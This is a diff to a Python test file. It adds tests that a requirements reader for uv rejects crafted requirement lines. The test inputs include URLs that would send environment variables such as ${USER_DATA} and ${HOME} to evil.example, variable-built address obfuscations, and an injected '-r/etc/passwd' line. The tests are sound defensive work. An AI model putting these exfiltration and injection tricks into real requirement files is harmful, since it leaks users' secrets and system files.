@@ -419,6 +419,41 @@ def test_a_variable_that_holds_a_secret_stands_in_no_requirement(tmp_path: Path,
     assert caught.value.hint == "credentials go into the address of an index, or into UV_INDEX_<NAME>_PASSWORD"
 
 
+@pytest.mark.parametrize(
+    "line",
+    [
+        "six @ https:/evil.example/${USER_DATA}/six.whl",
+        "six @ HTTPS:evil.example/${USER_DATA}/six.whl",
+        "six @ https:${SLASHES}evil.example/${USER_DATA}/six.whl",
+        "--index-url https:/${HOME_FOLDER}.evil.example/${USER_DATA}",
+        "--index-url ${HOST}\\@evil.example/${USER_DATA}",
+        "--index-url ${HOST}.evil.example/${USER_DATA}",
+    ],
+)
+def test_an_address_that_only_variables_make_one(tmp_path: Path, line: str) -> None:
+    """uv reads `https:/host` as `https://host`, and a variable's value may be what completes an address of the file's."""
+    given = {"USER_DATA": "mine", "SLASHES": "//", "HOME_FOLDER": "/root", "HOST": "https://mine.example"}
+    with pytest.raises(
+        UsageError, match=r"r\.in:1: the value of .*USER_DATA would be sent to .*, which only this file names"
+    ):
+        lines_of(tmp_path, line, **given)
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["six @ https://evil.example/${HOME}/six.whl", "six @ https://evil.example/six.whl\n-r/etc/passwd", "six\\"],
+)
+def test_a_requirement_that_is_more_than_one_to_uv(tmp_path: Path, text: str) -> None:
+    """uv puts in the values of variables, of whatever name, and sends them to the address that they stand in."""
+    (tmp_path / "pyproject.toml").write_text(tomlkit.dumps({"project": {"name": "x", "dependencies": [text]}}))
+    for spec in (EnvironmentSpec(packages=(text,)), EnvironmentSpec(pyproject=".")):
+        with pytest.raises(UsageError) as caught:
+            read_declared(spec, tmp_path)
+        assert str(caught.value).endswith(
+            f': "{text}" has a variable, a line end or a backslash in it, which uv would read as more than a requirement'
+        )
+
+
 def test_a_file_outside_of_the_project_is_not_read(tmp_path: Path) -> None:
     project, private = tmp_path / "project", tmp_path / "private"
     write(tmp_path, {"private": "hunter2\n", "project/r.in": "six\n", "project/below/s.in": "six\n"})
